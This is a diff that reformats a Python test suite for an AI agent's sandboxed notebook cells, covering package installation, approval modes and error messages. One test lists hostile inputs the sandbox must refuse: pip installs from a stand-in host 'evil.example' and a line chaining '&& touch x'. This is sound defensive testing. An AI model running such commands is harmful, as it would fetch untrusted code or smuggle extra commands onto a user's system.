@@ -53,9 +53,7 @@ async def test_cells_run_in_the_environment_once_it_is_built(
     small: Index, workspace: Path, script: Any, cell: Any
 ) -> None:
     environment = build()
-    model = script(
-        cell("import heron, sys; print(sys.prefix)"), {"expect": str(environment.folder), "text": "yes"}
-    )
+    model = script(cell("import heron, sys; print(sys.prefix)"), {"expect": str(environment.folder), "text": "yes"})
     async with agent_of(workspace, model) as agent:
         assert (await agent.run("where?")).text == "yes"
         assert not any("not built" in text for text in await notices_of(agent))
@@ -65,9 +63,7 @@ async def test_packages_given_to_an_agent_are_built_first(
     small: Index, workspace: Path, script: Any, cell: Any
 ) -> None:
     small.add("nest")
-    model = script(
-        cell("import heron, nest; print('both', nest.version)"), {"expect": "both 1.0", "text": "ok"}
-    )
+    model = script(cell("import heron, nest; print('both', nest.version)"), {"expect": "both 1.0", "text": "ok"})
     async with agent_of(workspace, model, packages=["Nest"]) as agent:
         assert (await agent.run("go")).text == "ok"
 
@@ -87,9 +83,7 @@ async def test_packages_that_are_configured_and_not_built_are_said(
 ) -> None:
     monkeypatch.setenv("PINFOLD_SANDBOX_PACKAGES", '["nest"]')
     async with agent_of(workspace, script({"text": "hi"})) as agent:
-        assert "the environment with nest is not built: `pinfold env build` makes it" in await notices_of(
-            agent
-        )
+        assert "the environment with nest is not built: `pinfold env build` makes it" in await notices_of(agent)
 
 
 async def test_a_python_of_the_users_own_runs_the_cells(
@@ -130,9 +124,7 @@ async def test_an_approved_package_is_installed_and_stays_with_the_session(
         assert (await resumed.run("still?")).text == "yes"
 
 
-@pytest.mark.parametrize(
-    ("mode", "seen"), [("auto", "nobody is there to ask"), ("full", "installed heron 1.0")]
-)
+@pytest.mark.parametrize(("mode", "seen"), [("auto", "nobody is there to ask"), ("full", "installed heron 1.0")])
 async def test_unattended_a_package_is_installed_in_mode_full_only(
     index: Index, workspace: Path, script: Any, mode: Any, seen: str
 ) -> None:
@@ -165,8 +157,7 @@ async def test_a_cell_installs_packages_and_imports_them_at_once(
     index.add("heron")
     index.add("twig")
     model = script(
-        cell(f"{line}\nimport heron, twig; print('legs', heron.version)"),
-        {"expect": "legs 1.0", "text": "ok"},
+        cell(f"{line}\nimport heron, twig; print('legs', heron.version)"), {"expect": "legs 1.0", "text": "ok"}
     )
     async with Agent(model=model, workspace=workspace, sandbox=sandbox, mode="full") as agent:
         assert (await agent.run("go")).text == "ok"
@@ -192,17 +183,9 @@ async def test_what_the_tool_says_is_printed(index: Index, workspace: Path, scri
         ("auto", "%pip install heron", "ToolRefused: This was not run: the package heron would be fetched"),
         ("read-only", "%pip install heron", "ToolRefused: This was not run: a package would be installed"),
         ("full", "%pip install nosuch", "ToolFailed: install failed: "),
-        (
-            "full",
-            "%pip install -i http://evil.example/simple heron",
-            "only packages can be named here, without -i",
-        ),
+        ("full", "%pip install -i http://evil.example/simple heron", "only packages can be named here, without -i"),
         ("full", "%pip install -r requirements.txt", "only packages can be named here, without -r"),
-        (
-            "full",
-            "%pip install --index-url=http://evil.example heron",
-            "without --index-url=http://evil.example",
-        ),
+        ("full", "%pip install --index-url=http://evil.example heron", "without --index-url=http://evil.example"),
         ("full", "!pip install heron && touch x", "by a line of its own"),
         ("full", "%pip install", "name the packages to install"),
         ("full", "%pip install git+https://example.org/x", "is no package"),
@@ -213,9 +196,7 @@ async def test_a_package_a_cell_may_not_or_cannot_have_is_its_error(
 ) -> None:
     index.add("heron")
     model = script(cell(f"{line}\nprint('went on')"), {"expect": seen, "text": "ok"})
-    async with Agent(
-        model=model, workspace=workspace, sandbox="namespaces", mode=mode, ephemeral=True
-    ) as agent:
+    async with Agent(model=model, workspace=workspace, sandbox="namespaces", mode=mode, ephemeral=True) as agent:
         result = await agent.run("go")
         assert result.text == "ok"
         assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
@@ -253,9 +234,7 @@ async def test_a_cell_gets_the_whole_of_a_long_result_and_the_model_none(
 
     code = "from _pinfold_guest.calls import call\nprint('has', len(call('rows', count=10_000)))"
     model = script(cell(code), {"expect": "has 170000", "text": "ok"})
-    async with Agent(
-        model=model, workspace=workspace, sandbox="namespaces", tools=[rows], ephemeral=True
-    ) as agent:
+    async with Agent(model=model, workspace=workspace, sandbox="namespaces", tools=[rows], ephemeral=True) as agent:
         assert (await agent.run("go")).text == "ok"
 
 
@@ -299,17 +278,13 @@ async def test_headless_without_approval_a_cell_that_lacks_a_package_fails_once_
     async with Agent(model=model, workspace=workspace, sandbox="namespaces", ephemeral=True) as agent:
         ends = [event async for event in agent.stream("go") if isinstance(event, ActionFinished)]
     assert [(event.outcome, event.notices) for event in ends] == [
-        (
-            "error",
-            ("the package heron is missing; with `--mode full` it is installed and the cell runs again",),
-        )
+        ("error", ("the package heron is missing; with `--mode full` it is installed and the cell runs again",))
     ]
     assert index.asked == []
 
 
 @pytest.mark.parametrize(
-    ("answer", "seen"),
-    [(False, "[This was not run: "), (True, "[install failed: there is no package 'heron'")],
+    ("answer", "seen"), [(False, "[This was not run: "), (True, "[install failed: there is no package 'heron'")]
 )
 async def test_a_package_that_is_not_installed_leaves_the_cells_error_and_says_why(
     index: Index, workspace: Path, script: Any, cell: Any, answer: bool, seen: str
@@ -318,9 +293,7 @@ async def test_a_package_that_is_not_installed_leaves_the_cells_error_and_says_w
         return answer
 
     model = script(cell(LACKING), {"expect": seen, "text": "ok"})
-    async with Agent(
-        model=model, workspace=workspace, sandbox="namespaces", approve=approve, ephemeral=True
-    ) as agent:
+    async with Agent(model=model, workspace=workspace, sandbox="namespaces", approve=approve, ephemeral=True) as agent:
         assert (await agent.run("go")).text == "ok"
     assert (workspace / "log.txt").read_text() == "x"
 
@@ -329,9 +302,7 @@ async def test_where_nothing_can_be_undone_the_package_is_installed_and_the_rest
     index: Index, workspace: Path, script: Any, cell: Any
 ) -> None:
     index.add("heron")
-    model = script(
-        cell(LACKING), {"expect": "[installed heron 1.0; run again what did not run]", "text": "ok"}
-    )
+    model = script(cell(LACKING), {"expect": "[installed heron 1.0; run again what did not run]", "text": "ok"})
     async with agent_of(workspace, model, mode="full", ephemeral=True) as agent:
         assert (await agent.run("go")).text == "ok"
     assert (workspace / "log.txt").read_text() == "x"
@@ -351,10 +322,7 @@ async def test_what_cannot_be_undone_is_not_done_twice_for_a_package(
 
     model = script(
         cell("from servers.tools import send\nsend('hello')\nimport heron"),
-        {
-            "expect": "[installed heron 1.0; run again what did not run]",
-            **cell("import heron; print('has it')"),
-        },
+        {"expect": "[installed heron 1.0; run again what did not run]", **cell("import heron; print('has it')")},
         {"expect": "has it", "text": "ok"},
     )
     async with Agent(
@@ -369,9 +337,7 @@ async def test_programs_of_the_session_find_what_was_installed(
     index: Index, workspace: Path, script: Any, cell: Any, sandbox: str
 ) -> None:
     index.add("heron")
-    shell = {
-        "calls": [{"tool": "shell", "args": {"command": "python -c 'import heron; print(heron.version)'"}}]
-    }
+    shell = {"calls": [{"tool": "shell", "args": {"command": "python -c 'import heron; print(heron.version)'"}}]}
     model = script(
         installs("heron"),
         shell,
